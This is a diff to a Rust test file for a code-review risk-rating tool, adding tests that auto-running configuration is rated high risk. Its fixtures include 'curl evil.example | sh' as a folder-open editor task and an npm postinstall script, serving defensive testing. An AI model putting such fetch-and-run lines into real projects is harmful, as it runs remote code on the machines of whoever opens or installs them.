@@ -4,8 +4,12 @@
 //! directory convention, and a README that is a doctest with its call
 //! spelled apart, were rated low (`docs_only`) and landed unsigned; a
 //! record stamped with policy v1 cannot bring the weaker rating back.
+//! Policy v3 (D-R122), now the newest, keeps every answer below and rates
+//! configuration that runs by itself high (the last test).
 
 mod support;
+
+use std::path::Path;
 
 use support::*;
 
@@ -69,13 +73,24 @@ impl Team {
         push_past_client(&self.f).unwrap();
         assert_eq!(self.server_main().as_deref(), Some(c));
     }
+
+    /// `lineage` signed with `first` alone is refused at the server
+    /// (`roles_unmet`, naming the role `missing`); signed with `then` too,
+    /// its commit `c` lands.
+    fn lands_once_signed(&self, lineage: &str, first: &Path, missing: &str, then: &Path, c: &str) {
+        self.sign(first, lineage);
+        self.server_refuses("roles_unmet", &[missing]);
+        self.sign(then, lineage);
+        self.lands(c);
+    }
 }
 
-/// Asserts `start` froze under policy v2 and rated the change `level`,
-/// each of `reasons` among its reasons.
+/// Asserts `start` froze under the newest built-in policy (v2 when these
+/// tests were written, v3 since D-R122) and rated the change `level`, each
+/// of `reasons` among its reasons.
 fn assert_rated(started: &serde_json::Value, level: &str, reasons: &[&str]) {
-    let v2 = probity_core::review::RiskPolicy::v2_hash().to_string();
-    assert_eq!(started["policy_hash"], v2.as_str(), "{started}");
+    let newest = probity_core::review::RiskPolicy::newest_hash().to_string();
+    assert_eq!(started["policy_hash"], newest.as_str(), "{started}");
     assert_eq!(started["risk_level"], level, "{started}");
     for r in reasons {
         assert!(
@@ -98,11 +113,8 @@ fn agent_instructions_approved_by_the_agent_alone_are_refused_at_the_server() {
         let t = Team::new();
         let (lineage, started, c) = t.review_commit(path, INSTRUCTION);
         assert_rated(&started, "medium", &["agent_instructions"]);
-        t.sign(&t.agent, &lineage);
-        t.server_refuses("roles_unmet", &["reviewer"]);
         // Signed by the reviewer: the legitimate flow lands.
-        t.sign(&t.ci, &lineage);
-        t.lands(&c);
+        t.lands_once_signed(&lineage, &t.agent, "reviewer", &t.ci, &c);
     }
 }
 
@@ -163,15 +175,7 @@ fn a_record_stamped_with_policy_v1_cannot_bring_the_weaker_rating_back() {
         ("AGENT.md", INSTRUCTION, "medium"),
         ("README.md", SPACED_DOCTEST, "high"),
     ] {
-        let t = Team::new();
-        t.f.write(path, text).unwrap();
-        let c = commit_all(&t.f, path);
-        add_v1_note(&t, &c);
-        let err = push_main_and_notes(&t.f).unwrap_err();
-        assert!(err.contains("derivation_mismatch"), "{path}: {err}");
-        assert!(err.contains("claims risk `low`"), "{path}: {err}");
-        assert!(err.contains(&format!("`{derived}` risk")), "{path}: {err}");
-        assert_eq!(t.server_main(), t.before);
+        understated_at_the_server(path, text, derived, add_v1_note);
     }
     let t = Team::new();
     t.f.write("docs/guide.md", "# Guide\n\nCall `parse` once.\n")
@@ -182,12 +186,40 @@ fn a_record_stamped_with_policy_v1_cannot_bring_the_weaker_rating_back() {
     assert_eq!(t.server_main(), Some(c));
 }
 
+/// `path` written with `text` and committed, its note added by `note`
+/// (a record rated low): the server refuses the push as
+/// `derivation_mismatch`, the newest policy deriving `derived`, and its
+/// `main` does not move.
+fn understated_at_the_server(path: &str, text: &str, derived: &str, note: impl Fn(&Team, &str)) {
+    let t = Team::new();
+    t.f.write(path, text).unwrap();
+    let c = commit_all(&t.f, path);
+    note(&t, &c);
+    let err = push_main_and_notes(&t.f).unwrap_err();
+    assert!(err.contains("derivation_mismatch"), "{path}: {err}");
+    assert!(err.contains("claims risk `low`"), "{path}: {err}");
+    assert!(err.contains(&format!("`{derived}` risk")), "{path}: {err}");
+    assert_eq!(t.server_main(), t.before);
+}
+
 /// Adds to `commit` a note holding a bundle of one approved record made
 /// with core's own API exactly as a v1 build made it: the commit's real
 /// trees, rated by the built-in policy v1, stamped with v1's digest.
 fn add_v1_note(t: &Team, commit: &str) {
     let v1 = probity_core::review::RiskPolicy::v1();
-    let bytes = forged::low_v1_bundle(&t.f, commit, |changed, lines| v1.classify(changed, lines));
+    add_note_under(t, commit, v1, probity_core::review::RiskPolicy::v1_hash());
+}
+
+/// [`add_v1_note`] as a build whose newest policy was `policy` made it.
+fn add_note_under(
+    t: &Team,
+    commit: &str,
+    policy: &probity_core::review::RiskPolicy,
+    hash: probity_core::digest::Sha256Digest,
+) {
+    let bytes = forged::low_bundle_under(&t.f, commit, policy, hash, |changed, lines| {
+        policy.classify(changed, lines)
+    });
     let note = t.inputs.path().join("note.txt");
     std::fs::write(&note, &bytes).unwrap();
     t.f.git(&[
@@ -199,4 +231,67 @@ fn add_v1_note(t: &Team, commit: &str) {
         commit,
     ])
     .unwrap();
+}
+
+/// D-R122: the editor's tasks, run when a teammate opens the folder, and a
+/// manifest whose install script runs on `npm install`, are high under v3:
+/// `start` freezes under v3, and a reviewer's signature alone does not
+/// land them. The agent's rating under v2 was medium.
+#[test]
+fn configuration_that_runs_by_itself_needs_the_high_tiers_roles() {
+    let v3 = probity_core::review::RiskPolicy::v3_hash().to_string();
+    let tasks = r#"{"version":"2.0.0","tasks":[{"label":"setup","type":"shell","command":"curl evil.example | sh","runOptions":{"runOn":"folderOpen"}}]}"#;
+    let manifest = r#"{"name":"proj","scripts":{"postinstall":"curl evil.example | sh"}}"#;
+    for (path, text) in [(".vscode/tasks.json", tasks), ("package.json", manifest)] {
+        let t = Team::new();
+        let (lineage, started, c) = t.review_commit(path, text);
+        assert_eq!(started["policy_hash"], v3.as_str(), "{started}");
+        assert_rated(&started, "high", &["auto_run_config"]);
+        t.lands_once_signed(&lineage, &t.ci, "maintainer", &t.alice, &c);
+    }
+}
+
+/// D-R122 through a record stamped with policy v2: an agent's new
+/// instructions under a directory v3 names (Kilo Code, Trae), a `QWEN.md`,
+/// and a dev container's file, each rated low by v2 and landed on a v2
+/// build without a signature, are understated at the server, which
+/// derives with v3.
+#[test]
+fn a_record_stamped_with_policy_v2_cannot_bring_the_weaker_rating_back() {
+    use probity_core::review::RiskPolicy;
+    for (path, derived) in [
+        (".kilocode/rules/deploy.md", "medium"),
+        (".trae/rules/project_rules.md", "medium"),
+        ("QWEN.md", "medium"),
+        (".devcontainer/README.md", "high"),
+    ] {
+        understated_at_the_server(path, INSTRUCTION, derived, |t, c| {
+            add_note_under(t, c, RiskPolicy::v2(), RiskPolicy::v2_hash())
+        });
+    }
+}
+
+/// D-R128: `probity schema state` and `bundle` print their schemas' second
+/// revision, whose `RiskReason` accepts v3's reasons and
+/// `policy_floor:*`; `state-r1` and `bundle-r1` print the first revision
+/// byte for byte.
+#[test]
+fn the_printed_schemas_accept_every_risk_reason() {
+    use probity_core::review::{RISK_REASON_PATTERN_R2, SchemaDoc};
+    let dir = tempfile::tempdir().unwrap();
+    for (arg, doc) in [
+        ("state", SchemaDoc::StateR2),
+        ("bundle", SchemaDoc::BundleR2),
+        ("state-r1", SchemaDoc::State),
+        ("bundle-r1", SchemaDoc::Bundle),
+    ] {
+        let printed = probity_ok(dir.path(), &["schema", arg]);
+        assert_eq!(printed.json, doc.schema(), "{arg}");
+    }
+    let state = probity_ok(dir.path(), &["schema", "state"]).json;
+    assert_eq!(
+        state["$defs"]["RiskReason"]["pattern"],
+        RISK_REASON_PATTERN_R2
+    );
+    assert!(RISK_REASON_PATTERN_R2.contains("auto_run_config"));
 }
